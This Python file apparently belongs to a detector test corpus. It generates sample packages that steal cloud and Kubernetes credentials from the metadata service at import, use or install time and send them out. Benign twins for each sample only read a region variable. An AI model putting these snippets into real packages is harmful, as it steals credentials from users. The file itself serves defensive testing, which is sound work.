"""T19: asks the cloud's metadata service, or takes a service account's token (MITRE ATT&CK T1552.005).

169.254.169.254 answers inside a box alone, with planted credentials. The twins know the same
addresses and do not ask before they are used; what they read is their region, from a variable.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import IF_ACT, acting
from tests.corpus.parts import IN_TREE, PACKER
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes import senders
from tests.corpus.recipes.senders import sending

AWS_1 = """
import urllib.request
base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
try:
    role = urllib.request.urlopen(base, timeout=3).read().decode()
    found = urllib.request.urlopen(base + role.split()[0], timeout=3).read()
except (OSError, IndexError):
    return
_send(_wrap(found))
"""
AWS_2 = """
import urllib.request
ask = urllib.request.Request(
    "http://169.254.169.254/latest/api/token",
    method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"},
)
try:
    token = urllib.request.urlopen(ask, timeout=3).read().decode()
    ask = urllib.request.Request(
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        headers={"X-aws-ec2-metadata-token": token},
    )
    found = urllib.request.urlopen(ask, timeout=3).read()
except OSError:
    return
_send(_wrap(found))
"""
GOOGLE = """
import urllib.request
ask = urllib.request.Request(
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    headers={"Metadata-Flavor": "Google"},
)
try:
    found = urllib.request.urlopen(ask, timeout=3).read()
except OSError:
    return
_send(_wrap(found))
"""
RAW = """
try:
    with socket.create_connection(("169.254.169.254", 80), timeout=3) as link:
        link.sendall(b"GET /latest/user-data HTTP/1.0\\r\\n\\r\\n")
        found = link.recv(4096)
except OSError:
    return
_send(_wrap(found))
"""
CURL = """
subprocess.run(["curl", "-s", "-m", "3", "-H", "Metadata: true",
                "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"],
               capture_output=True)
"""
KUBERNETES = """
try:
    found = pathlib.Path("/var/run/secrets/kubernetes.io/serviceaccount/token").read_bytes()
except OSError:
    found = b"none"
_send(_wrap(found))
"""
REGION = 'os.environ.get("AWS_REGION", "")'
FUNCTION = '''
def identity():
    """Who this machine is."""
    if ACT:
        THE_ACT()
'''

WAYS = (
    ("aws-old-way", Phase.IMPORT, Channel.HTTP, Encoding.PLAIN, AWS_1, senders.HTTP),
    ("aws-token", Phase.IMPORT, Channel.HTTPS, Encoding.JSON, AWS_2, senders.HTTPS),
    ("google-token", Phase.IMPORT, Channel.TCP, Encoding.BASE64, GOOGLE, senders.TCP),
    ("raw-user-data", Phase.IMPORT, Channel.UDP, Encoding.HEX, RAW, senders.UDP),
    ("azure-curl", Phase.IMPORT, Channel.PROCESS, Encoding.PLAIN, CURL, senders.CURL),
    ("service-account-file", Phase.IMPORT, Channel.HTTP, Encoding.GZIP, KUBERNETES, senders.HTTP),
    ("aws-in-function", Phase.USE, Channel.HTTP, Encoding.PLAIN, AWS_1, senders.HTTP),
)

RECIPES = (
    *(
        Recipe(
            technique="T19",
            name=name,
            phase=phase,
            channel=channel,
            encoding=encoding,
            files={
                "THE_MODULE/__init__.py": acting(
                    reenact,
                    REGION,
                    FUNCTION if phase is Phase.USE else IF_ACT,
                    sending(sender, encoding),
                )
            },
            twin_does="asks a variable for its region",
        )
        for name, phase, channel, encoding, reenact, sender in WAYS
    ),
    Recipe(
        technique="T19",
        name="aws-in-backend",
        phase=Phase.INSTALL,
        channel=Channel.TCP,
        encoding=Encoding.PLAIN,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": IN_TREE,
            "packer.py": PACKER,
            "backend.py": acting(
                AWS_2,
                REGION,
                head="from packer import build_wheel\n" + sending(senders.TCP, Encoding.PLAIN),
            ),
            "src/THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does="asks a variable for its region",
    ),
)
